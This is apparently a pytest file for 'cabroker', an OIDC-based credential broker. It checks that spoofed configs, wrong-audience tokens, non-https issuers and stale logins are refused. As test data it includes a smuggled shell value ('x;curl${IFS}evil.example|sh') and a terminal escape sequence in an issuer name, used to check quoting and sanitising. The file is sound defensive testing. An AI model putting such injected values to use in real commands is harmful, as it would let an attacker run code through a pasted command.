        "the broker offers interactive login with several issuers (corp, okta); "
        "choose one with --issuer NAME"
    )
    who = client.get(config=config, interactive=True, issuer="corp", pin=(CORP_AUDIENCE,))
    assert (who.iss, who.where) == (corp.url, "corp")


def test_a_device_login_to_an_issuer_that_signs_for_another_issuer(
    client: Client, idp: IdentityProvider
) -> None:
    """The IdP hands out a token whose iss is not the issuer logged in to: refused."""
    rogue = idp.add(
        "rogue", CORP_AUDIENCE, client_id=CLIENT_ID, users={"eve": {"iss": "https://evil.example"}}
    )
    config = config_of(Issuer("rogue", rogue.url, CORP_AUDIENCE, CLIENT_ID))
    message = client.fail(config=config, interactive=True, pin=(CORP_AUDIENCE,))
    assert message.startswith("issuer rogue gave an ID token issued by https://evil.example, ")


def test_the_device_token_must_come_from_the_issuer_logged_in_to(
    client: Client,
    corp: LocalIssuer,
    other: LocalIssuer,
    secrets: list[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """identity's own check, whatever the device flow let through."""
    token = mint(secrets, other, aud=CORP_AUDIENCE)
    monkeypatch.setattr("cabroker.device.login", lambda issuer, **kwargs: token)
    assert client.fail(interactive=True, pin=(CORP_AUDIENCE,)) == (
        f"the login to corp returned an ID token issued by {other.url}, not {corp.url}"
    )
    monkeypatch.setattr("cabroker.device.login", lambda issuer, **kwargs: mint(secrets, corp))
    assert client.get(interactive=True, pin=(CORP_AUDIENCE,)).iss == corp.url


# ----------------------------------------------------------------------- named sources


def test_a_named_source_is_the_only_one_tried(
    client: Client, env: Env, github: LocalIssuer, secrets: list[str], tmp_path: Path
) -> None:
    path = tmp_path / "token"
    path.write_text(mint(secrets, github))
    env.set(GITLAB_CI="true", **{GITLAB_VARIABLE: mint(secrets, github)})
    env.set(CABROKER_ID_TOKEN=mint(secrets, github))
    assert client.get(source="ambient", id_token_file=path).source == "gitlab-ci"
    assert client.get(source="file", id_token_file=path).source == "file"
    assert client.get(source="env", id_token_file=path).source == "env"


@pytest.mark.parametrize(
    ("source", "message"),
    [
        pytest.param(
            "ambient",
            "no CI identity found (cabroker detects GitHub Actions, GCP, Buildkite, GitLab CI, "
            f"CircleCI); {HINTS}",
            id="ambient",
        ),
        pytest.param(
            "file",
            "no ID token file: pass --id-token-file PATH or set CABROKER_ID_TOKEN_FILE",
            id="file",
        ),
        pytest.param(
            "env", "CABROKER_ID_TOKEN is not set: set it to an OIDC ID token (a JWT)", id="env"
        ),
    ],
)
def test_a_named_source_without_a_token(client: Client, source: str, message: str) -> None:
    assert client.fail(source=source) == message
    assert client.config_loads == 0


def test_an_unknown_source(client: Client) -> None:
    with pytest.raises(UsageError) as caught:
        client.get(source="keyring")
    assert str(caught.value) == (
        "unknown identity source 'keyring'; choose one of ambient, file, env, device"
    )
    assert SOURCES == ("ambient", "file", "env", "device")


# ----------------------------------------------- truth table: which token is asked for and sent


PINS = [
    pytest.param({}, ORIGIN, id="nothing pinned: the origin"),
    pytest.param({"flag": ["ci-aud"]}, "ci-aud", id="--audience"),
    pytest.param({"flag": ["ci-aud", "second"]}, "ci-aud", id="--audience twice: the first"),
    pytest.param({"variable": "ci-aud, second"}, "ci-aud", id="CABROKER_AUDIENCE"),
    pytest.param({"saved": BROKER}, "ci-aud", id="saved for this broker"),
    pytest.param({"saved": "https://other.example.com"}, ORIGIN, id="saved for another broker"),
]


def pin(env: Env, how: dict[str, Any]) -> list[str]:
    """Pin ``ci-aud`` (and ``second``) as ``how`` says; the ``--audience`` flag's values."""
    if "variable" in how:
        env.set(CABROKER_AUDIENCE=how["variable"])
    if "saved" in how:
        path = Path(env.values["XDG_CONFIG_HOME"]) / "cabroker" / "config.toml"
        path.parent.mkdir(parents=True)
        path.write_text(f'broker_url = "{how["saved"]}"\naudiences = ["ci-aud", "second"]\n')
    return list(how.get("flag", []))


@pytest.mark.parametrize("named", [False, True], ids=["no --issuer", "--issuer reads /v1/config"])
@pytest.mark.parametrize(("how", "expected"), PINS)
def test_github_is_asked_for_the_pinned_audience_or_the_origin_never_one_from_v1_config(
    env: Env,
    github_actions: GitHubTokens,
    github: LocalIssuer,
    how: dict[str, Any],
    expected: str,
    named: bool,
) -> None:
    """A spoofed broker URL whose /v1/config lists sts.amazonaws.com (first, and as the
    audience of the very issuer GitHub's tokens come from) gets no say in the audience."""
    spoofed = config_of(
        Issuer("aws", "https://sts.example.com", HOSTILE, CLIENT_ID),
        Issuer("github", github.url, HOSTILE),
    )
    loads: list[str] = []

    def load() -> BrokerConfig:
        loads.append("/v1/config")
        return spoofed

    issuer = "github" if named else None
    sources = Sources(audiences(BROKER, pin(env, how), env.values), load, env.values, issuer)
    who = sources.without_login(None, None)
    assert who is not None
    assert github_actions.audiences == [expected]
    assert claims_of(who)["aud"] == who.audience == expected
    assert loads == (["/v1/config"] if named else [])


@pytest.mark.parametrize("source", [None, "ambient"])
def test_a_gitlab_pypi_id_token_is_never_read_or_sent(
    client: Client,
    idp: IdentityProvider,
    env: Env,
    secrets: list[str],
    asked: list[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    source: str | None,
) -> None:
    """GitLab's PYPI_ID_TOKEN (aud pypi, for trusted publishing) is not this broker's, even
    when /v1/config lists an issuer for audience pypi: the job is asked for the broker's
    variable, and without it nothing is sent."""
    gitlab = idp.add("gitlab", "pypi")
    env.set(GITLAB_CI="true", PYPI_ID_TOKEN=mint(secrets, gitlab))
    spoofed = config_of(Issuer("gitlab", gitlab.url, "pypi", CLIENT_ID))
    message = client.fail(config=spoofed, source=source, interactive=True)
    assert message == (
        f"GitLab CI gave no usable ID token: GitLab: Environment variable {GITLAB_VARIABLE} not "
        f"found; add `id_tokens: {{CABROKER_ID_TOKEN: {{aud: {ORIGIN}}}}}` to the job, "
        "or pass --id-token-file PATH"
    )
    assert asked == [ORIGIN]
    assert client.config_loads == 0
    # and through the library: no call to the broker at all
    calls = broker_calls(monkeypatch)
    with pytest.raises(IdentityError):
        get_grant(tmp_path, env, source=source)
    assert (asked, calls) == ([ORIGIN, ORIGIN], [])


def broker_calls(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every call to the broker (none may happen: each fails the test)."""
    calls: list[str] = []

    def call(self: BrokerClient, method: str, path: str, **kwargs: Any) -> dict[str, Any]:
        calls.append(f"{method} {path}")
        raise AssertionError(f"the broker was called: {method} {path}")

    monkeypatch.setattr(BrokerClient, "_call", call)
    return calls


def get_grant(tmp_path: Path, env: Env, **kwargs: Any) -> Grant:
    """``api.get_grant`` for BROKER, non-interactive, with a token cache in ``tmp_path``."""
    cache = TokenCache(FileStore(tmp_path / "cache" / "tokens.json"))
    return api.get_grant(BROKER, env=env.values, cache=cache, interactive=False, **kwargs)


OTHER_SERVICES = [
    pytest.param(HOSTILE, f'"{HOSTILE}"', id="sts"),
    pytest.param("pypi", '"pypi"', id="pypi"),
    pytest.param([ORIGIN, HOSTILE], f'["{ORIGIN}", "{HOSTILE}"]', id="the brokers and sts"),
    pytest.param([HOSTILE, ORIGIN], f'["{HOSTILE}", "{ORIGIN}"]', id="sts and the brokers"),
    pytest.param([], "[]", id="an empty list"),
    pytest.param(None, "null", id="no aud"),
    pytest.param([ORIGIN, 7], f'["{ORIGIN}", 7]', id="a number in the list"),
    pytest.param(BROKER, f'"{BROKER}"', id="the URL, not its origin"),
    pytest.param("https://broker.example.com.evil.example", None, id="a longer host"),
]


@pytest.mark.parametrize("where", ["file", "env"])
@pytest.mark.parametrize(("aud", "shown"), OTHER_SERVICES)
def test_a_token_for_another_service_is_refused_before_any_broker_call(
    env: Env,
    github: LocalIssuer,
    secrets: list[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    aud: object,
    shown: str | None,
    where: str,
) -> None:
    token = mint(secrets, github, aud=aud)
    path = tmp_path / "id-token"
    path.write_text(token)
    if where == "env":
        env.set(CABROKER_ID_TOKEN=token)
    calls = broker_calls(monkeypatch)
    with pytest.raises(IdentityError) as caught:
        get_grant(tmp_path, env, id_token_file=path if where == "file" else None)
    named = f"the file {path}" if where == "file" else "CABROKER_ID_TOKEN"
    assert str(caught.value) == wrong_audience(named, shown or json.dumps(aud))
    shows_no_secret(secrets, str(caught.value))
    assert calls == []


def test_a_device_issuer_whose_audience_is_not_pinned_is_refused_before_any_idp_request(
    client: Client, corp: LocalIssuer, env: Env, device_requests: list[str]
) -> None:
    pin(env, {"saved": "https://other.example.com"})  # pinned, but for another broker
    assert client.fail(interactive=True) == (
        f"the broker's interactive login (corp, {corp.url}) issues ID tokens for audience "
        f"'{CORP_AUDIENCE}', which is not pinned for this broker; if your admins publish that "
        f"audience, pin it once: cabroker configure {BROKER} --audience {CORP_AUDIENCE}"
    )
    assert (client.http.requests, device_requests, corp.pending()) == ([], [], [])


@pytest.mark.parametrize("audience", [HOSTILE, "pypi"])
def test_a_device_issuer_for_another_service_is_refused_before_any_idp_request(
    client: Client, corp: LocalIssuer, device_requests: list[str], audience: str
) -> None:
    """A spoofed /v1/config that names the real IdP for sts or pypi: no login starts."""
    spoofed = config_of(Issuer("corp", corp.url, audience, CLIENT_ID))
    message = client.fail(config=spoofed, interactive=True, pin=(CORP_AUDIENCE,))
    assert message.startswith(f"the broker's interactive login (corp, {corp.url}) issues ID ")
    assert f"for audience '{audience}', which is not pinned for this broker" in message
    assert (client.http.requests, device_requests, corp.pending()) == ([], [], [])


@pytest.mark.parametrize(
    ("url", "why"),
    [
        pytest.param(
            "http://idp.example.com/corp",
            "it is http:// (cleartext); use https:// (http:// only for a loopback host)",
            id="http",
        ),
        pytest.param(
            "http://10.0.0.7/corp",
            "it is http:// (cleartext); use https:// (http:// only for a loopback host)",
            id="http to a private address",
        ),
        pytest.param(
            "http://localhost.evil.example/corp",
            "it is http:// (cleartext); use https:// (http:// only for a loopback host)",
            id="http to a host named localhost-something",
        ),
        pytest.param(
            "http://127.0.0.1@idp.example.com/corp",
            "it holds a user name or password",
            id="loopback as user name",
        ),
        pytest.param("ftp://idp.example.com/corp", "it is not an https:// URL", id="ftp"),
    ],
)
def test_a_device_issuer_that_is_not_https_is_refused(
    client: Client, device_requests: list[str], url: str, why: str
) -> None:
    spoofed = config_of(Issuer("corp", url, CORP_AUDIENCE, CLIENT_ID))
    message = client.fail(config=spoofed, interactive=True, pin=(CORP_AUDIENCE,))
    assert message == f"the broker's interactive login issuer corp is refused: {why}"
    assert (client.http.requests, device_requests) == ([], [])


def test_v1_config_never_widens_the_accepted_audiences(
    client: Client, idp: IdentityProvider, env: Env, secrets: list[str]
) -> None:
    """Whatever /v1/config lists (read here for --issuer), the audiences stay the origin and
    the pinned ones: a token for pypi from the issuer it names is refused."""
    gitlab = idp.add("gitlab", "pypi")
    spoofed = config_of(
        Issuer("gitlab", gitlab.url, "pypi", CLIENT_ID), Issuer("aws", gitlab.url, HOSTILE)
    )
    sources = Sources(client.audiences(), lambda: spoofed, env.values, "gitlab")
    assert sources.config() is spoofed
    assert sources.audiences.accepted == (ORIGIN,)
    assert not sources.audiences.accepts("pypi")
    assert not sources.audiences.accepts(HOSTILE)
    for aud in ("pypi", HOSTILE):
        env.set(CABROKER_ID_TOKEN=mint(secrets, gitlab, aud=aud))
        with pytest.raises(IdentityError) as caught:
            sources.without_login(None, None)
        assert str(caught.value) == wrong_audience("CABROKER_ID_TOKEN", f'"{aud}"')
    assert client.fail(config=spoofed, issuer="gitlab") == wrong_audience(
        "CABROKER_ID_TOKEN", f'"{HOSTILE}"'
    )


def test_a_device_login_token_also_for_another_service_is_refused(
    client: Client, idp: IdentityProvider
) -> None:
    """The IdP the broker names returns a token for the pinned audience *and* sts: the device
    flow finds its audience in the list, the client refuses the list."""
    corp2 = idp.add(
        "corp2",
        CORP_AUDIENCE,
        client_id=CLIENT_ID,
        users={"bob": {"aud": [CORP_AUDIENCE, HOSTILE]}},
    )
    config = config_of(Issuer("corp2", corp2.url, CORP_AUDIENCE, CLIENT_ID))
    message = client.fail(config=config, interactive=True, pin=(CORP_AUDIENCE,))
    assert message == wrong_audience(
        "the login to corp2",
        f'["{CORP_AUDIENCE}", "{HOSTILE}"]',
        accepted=f"'{CORP_AUDIENCE}', '{ORIGIN}'",
        request=CORP_AUDIENCE,
    )


@pytest.mark.parametrize("source", ["github-actions", "gitlab-ci", "file", "env"])
def test_no_v1_config_for_a_ci_file_or_env_identity(
    env: Env,
    github_actions: GitHubTokens,
    github: LocalIssuer,
    secrets: list[str],
    tmp_path: Path,
    source: str,
) -> None:
    path = tmp_path / "id-token"
    path.write_text(mint(secrets, github))
    if source != "github-actions":
        env.monkeypatch.delenv("GITHUB_ACTIONS")
        del env.values["GITHUB_ACTIONS"]
    if source == "gitlab-ci":
        env.set(GITLAB_CI="true", **{GITLAB_VARIABLE: mint(secrets, github)})
    elif source == "env":
        env.set(CABROKER_ID_TOKEN=mint(secrets, github))
    who = obtain(
        audiences(BROKER, [], env.values),
        no_config,
        env=env.values,
        id_token_file=path if source == "file" else None,
        interactive=True,
        out=io.StringIO(),
    )
    assert who.source == source


def a_grant() -> Grant:
    host = "acme-111122223333.d.codeartifact.us-east-1.amazonaws.com"
    return Grant(
        token=Secret("catoken-" + "x" * 40),
        expires_at=datetime.now(UTC).replace(microsecond=0) + timedelta(hours=1),
        username="aws",
        repository="internal",
        access="read",
        packages=(),
        index_url=f"https://{host}/pypi/internal/simple/",
        upload_url=f"https://{host}/pypi/internal/",
        domain="acme",
        domain_owner="111122223333",
        region="us-east-1",
    )


@pytest.mark.parametrize("source", ["github-actions", "file", "env"])
def test_a_cached_grant_needs_no_network(
    env: Env,
    github_actions: GitHubTokens,
    github: LocalIssuer,
    secrets: list[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    source: str,
) -> None:
    """The identity is found without /v1/config, and its cached grant is returned without a
    call to the broker."""
    path = tmp_path / "id-token"
    if source != "github-actions":
        env.monkeypatch.delenv("GITHUB_ACTIONS")
        del env.values["GITHUB_ACTIONS"]
    if source == "file":
        path.write_text(mint(secrets, github))
    if source == "env":
        env.set(CABROKER_ID_TOKEN=mint(secrets, github))
    sources = Sources(audiences(BROKER, [], env.values), no_config, env.values)
    who = sources.without_login(None, path if source == "file" else None)
    assert who is not None
    cached = a_grant()
    where = f"file:{path.absolute()}" if source == "file" else source
    TokenCache(FileStore(tmp_path / "cache" / "tokens.json")).put(
        CacheKey(BROKER, identity=who.binding, source=where), cached
    )
    calls = broker_calls(monkeypatch)
    grant = get_grant(tmp_path, env, id_token_file=path if source == "file" else None)
    assert (grant.token, grant.expires_at, calls) == (cached.token, cached.expires_at, [])


# ------------------------------------------- found by these tests (and fixed)


def test_a_device_issuer_name_cannot_drive_the_terminal(
    client: Client, corp: LocalIssuer, device_requests: list[str]
) -> None:
    spoofed = config_of(Issuer("corp\x1b]0;pwned\x07", corp.url, HOSTILE, CLIENT_ID))
    message = client.fail(config=spoofed, interactive=True)
    assert message.startswith("the broker's interactive login (corp")
    assert (client.http.requests, device_requests) == ([], [])
    assert message.isprintable()


def test_the_suggested_pin_command_is_one_shell_word_per_argument(
    client: Client, corp: LocalIssuer
) -> None:
    """A spoofed /v1/config's audience is quoted in the command the message suggests (a user
    may paste it): it can add no command of its own."""
    audience = "x;curl${IFS}evil.example|sh"
    spoofed = config_of(Issuer("corp", corp.url, audience, CLIENT_ID))
    message = client.fail(config=spoofed, interactive=True)
    command = message.split("pin it once: ", 1)[1]
    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True  # split as a POSIX shell would: at blanks and at ; | & ( ) < >
    words = list(lexer)
    assert words == ["cabroker", "configure", BROKER, "--audience", audience]


# ------------------------------------------- one interactive login serves every command


def test_one_device_login_serves_the_next_commands(
    client: Client, device_requests: list[str]
) -> None:
    first = client.get(interactive=True, pin=(CORP_AUDIENCE,))
    assert device_requests == ["corp"]
    again = client.get(interactive=False, pin=(CORP_AUDIENCE,))  # grants, without a terminal
    assert (again.source, again.where, again.binding) == ("device", "corp", first.binding)
    assert again.token == first.token
    assert device_requests == ["corp"], "no second device login"
    assert client.config_loads == 1, "a kept login needs no /v1/config"
    named = client.get(source="device", pin=(CORP_AUDIENCE,), issuer="corp")
    assert named.token == first.token
    assert device_requests == ["corp"]


def test_a_kept_login_never_serves_a_ci_job(client: Client, env: Env) -> None:
    client.get(interactive=True, pin=(CORP_AUDIENCE,))
    env.set(GITHUB_ACTIONS="true")  # a job without id-token: write on the same machine
    assert client.fail(pin=(CORP_AUDIENCE,)).startswith("GitHub Actions gave no usable ID token")


def test_a_kept_login_is_only_for_the_audiences_accepted_now(client: Client) -> None:
    client.get(interactive=True, pin=(CORP_AUDIENCE,))
    assert client.fail().startswith("no identity found")  # the pin is gone: not this broker's


def test_a_kept_login_is_for_its_issuer_only(client: Client, device_requests: list[str]) -> None:
    client.get(interactive=True, pin=(CORP_AUDIENCE,))
    assert client.fail(pin=(CORP_AUDIENCE,), issuer="github").startswith("no identity found")
    assert device_requests == ["corp"]


def test_an_expired_kept_login_is_not_used(
    client: Client, device_requests: list[str], shared: tuple[IdentityProvider, Clock]
) -> None:
    client.get(interactive=True, pin=(CORP_AUDIENCE,))
    client.now += 301  # the dev IdP's ID tokens live 300 s
    shared[1].now += 301
    again = client.get(interactive=True, pin=(CORP_AUDIENCE,))
    assert again.source == "device"
    assert device_requests == ["corp", "corp"], "a new login"


def test_a_kept_login_is_not_reused_for_other_scopes(
    client: Client, env: Env, device_requests: list[str]
) -> None:
    """A user who sets CABROKER_SCOPES (to get a claim the first login lacked) gets a new
    login, not the kept one; the same scopes again reuse it."""
    client.get(interactive=True, pin=(CORP_AUDIENCE,))
    env.set(CABROKER_SCOPES="openid groups")
    again = client.get(interactive=True, pin=(CORP_AUDIENCE,))
    assert again.source == "device"
    assert device_requests == ["corp", "corp"], "a new login, asking for the new scopes"
    client.get(interactive=False, pin=(CORP_AUDIENCE,))
    assert device_requests == ["corp", "corp"], "the login with those scopes is kept"
    env.set(CABROKER_SCOPES='openid "groups"')  # unusable: no kept login, and the login says why
    with pytest.raises(UsageError, match="CABROKER_SCOPES is not a list"):
        client.get(interactive=True, pin=(CORP_AUDIENCE,))
